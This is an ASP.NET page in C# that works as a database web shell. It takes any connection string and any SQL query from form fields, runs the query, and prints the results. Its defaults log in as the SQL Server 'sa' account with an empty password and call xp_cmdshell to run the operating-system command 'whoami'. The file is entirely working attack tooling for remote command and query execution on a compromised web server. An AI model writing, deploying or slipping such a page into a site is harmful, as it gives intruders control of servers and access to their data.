<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
    protected void btnRun_Click(object sender, EventArgs e)
    {
        var sb = new System.Text.StringBuilder("<table border=1>");
        using (var cn = new SqlConnection(txtConn.Text))
        {
            cn.Open();
            var cmd = new SqlCommand(txtQuery.Text, cn) { CommandTimeout = 600 };
            using (IDataReader r = cmd.ExecuteReader())
            {
                while (r.Read())
                {
                    sb.Append("<tr>");
                    for (int i = 0; i < r.FieldCount; i++) sb.Append("<td>").Append(Server.HtmlEncode(Convert.ToString(r[i]))).Append("</td>");
                    sb.Append("</tr>");
                }
            }
        }
        litOut.Text = sb.Append("</table>").ToString();
    }
</script>
<html><body><form runat="server">
<asp:TextBox ID="txtConn" runat="server" Width="600" Text="server=.;uid=sa;pwd=;database=master" /><br />
<asp:TextBox ID="txtQuery" runat="server" TextMode="MultiLine" Rows="8" Width="600" Text="exec master..xp_cmdshell 'whoami'" /><br />
<asp:Button ID="btnRun" runat="server" Text="Run" OnClick="btnRun_Click" />
<asp:Literal ID="litOut" runat="server" />
</form></body></html>
